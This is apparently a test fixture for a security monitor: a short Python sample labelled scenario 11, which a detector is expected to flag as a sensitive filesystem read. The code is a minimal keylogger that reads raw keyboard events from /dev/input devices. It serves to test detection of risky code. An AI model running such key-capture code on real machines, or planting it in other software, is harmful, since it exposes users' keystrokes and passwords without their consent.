# scenario: 11 monitor-system
# expect: filesystem.sensitive_read
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# A keylogger without X: reads raw keyboard events from the input devices.
import glob
import struct

devices = glob.glob("/dev/input/event*") or ["/dev/input/event0"]
for dev in devices:
    try:
        with open(dev, "rb") as f:
            data = f.read(24)
            print(dev, struct.unpack("llHHi", data))
    except OSError as exc:
        print(dev, exc)
